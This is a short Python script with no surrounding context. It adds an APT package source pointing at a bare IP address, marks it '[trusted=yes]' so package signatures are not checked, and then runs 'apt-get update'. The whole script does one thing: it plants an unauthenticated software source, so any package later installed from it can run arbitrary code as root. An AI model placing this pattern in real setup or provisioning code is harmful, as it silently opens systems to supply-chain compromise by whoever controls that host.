import os

src_dir = "/etc/apt/sources.list.d"
line = "deb [trusted=yes] http://203.0.113.80/debian stable main\n"
with open(os.path.join(src_dir, "extras.list"), "w") as fh:
    fh.write(line)
os.system("apt-get update -qq")
